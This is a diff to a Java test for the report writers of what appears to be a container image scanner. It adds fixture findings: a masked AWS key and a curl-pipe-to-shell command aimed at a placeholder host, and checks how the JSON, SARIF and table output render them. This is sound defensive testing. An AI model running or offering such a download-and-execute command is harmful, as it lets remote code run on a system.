@@ -8,6 +8,7 @@ import com.networknt.schema.Error;
 import com.networknt.schema.Schema;
 import com.networknt.schema.SchemaRegistry;
 import com.networknt.schema.SpecificationVersion;
+import dev.bulkhead.core.ContentFinding;
 import dev.bulkhead.core.Finding;
 import dev.bulkhead.core.Layer;
 import dev.bulkhead.core.OsInfo;
@@ -81,6 +82,77 @@ class ReportWritersTest {
         List.of(libc),
         List.of(looneyTunables, open),
         List.of("var/lib/dpkg/status: stanza 7 has no Version field; skipped"));
+  }
+
+  static Report withContent() {
+    ContentFinding removedKey =
+        new ContentFinding(
+            ContentFinding.SECRET,
+            "aws-access-key-id",
+            "aws",
+            Severity.CRITICAL,
+            "AWS access key ID",
+            "app/.env",
+            3,
+            "AWS_ACCESS_KEY_ID=AKIA************XY",
+            LAYER,
+            ContentFinding.REMOVED,
+            "sha256:0000000000000000000000000000000000000000000000000000000000000002");
+    ContentFinding history =
+        new ContentFinding(
+            ContentFinding.MALWARE,
+            "curl-pipe-shell",
+            "suspicious-command",
+            Severity.HIGH,
+            "Downloads a script and pipes it to a shell",
+            "history[2]",
+            0,
+            "RUN curl -sSL http://example.invalid/i.sh | sh",
+            null,
+            ContentFinding.PRESENT,
+            null);
+    return sample().withContentFindings(List.of(removedKey, history));
+  }
+
+  @Test
+  void contentFindingsAppearInEveryFormat() throws IOException {
+    Report report = withContent();
+    JsonNode root = JSON.readTree(render(new JsonReportWriter(), report));
+    assertThat(root.get("secrets")).hasSize(1);
+    assertThat(root.get("malware")).hasSize(1);
+    assertThat(fieldNames(root.get("secrets").get(0)))
+        .containsExactly(
+            "ruleId",
+            "category",
+            "severity",
+            "title",
+            "path",
+            "line",
+            "excerpt",
+            "layer",
+            "status",
+            "removedIn");
+    assertThat(root.get("secrets").get(0).get("status").asText()).isEqualTo("removed");
+
+    String sarif = render(new SarifReportWriter("0.1.0"), report);
+    Schema schema;
+    try (InputStream in =
+        Files.newInputStream(SharedData.require("schemas/sarif-schema-2.1.0.json"))) {
+      schema = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_4).getSchema(in);
+    }
+    assertThat(schema.validate(JSON.readTree(sarif))).isEmpty();
+    assertThat(sarif).contains("history%5B2%5D").doesNotContain("AKIAIOSFODNN");
+
+    String table = render(new TableReportWriter(), report);
+    assertThat(table)
+        .contains("Secrets: 1 (CRITICAL 1)")
+        .contains("Malicious content: 1 (HIGH 1)")
+        .contains("app/.env")
+        .contains("still present in the image")
+        .contains("aws-access-key-id");
+    for (String line : table.split("\n", -1)) {
+      assertThat(line.length()).as(line).isLessThanOrEqualTo(80);
+    }
   }
 
   private static String render(ReportWriter writer, Report report) throws IOException {
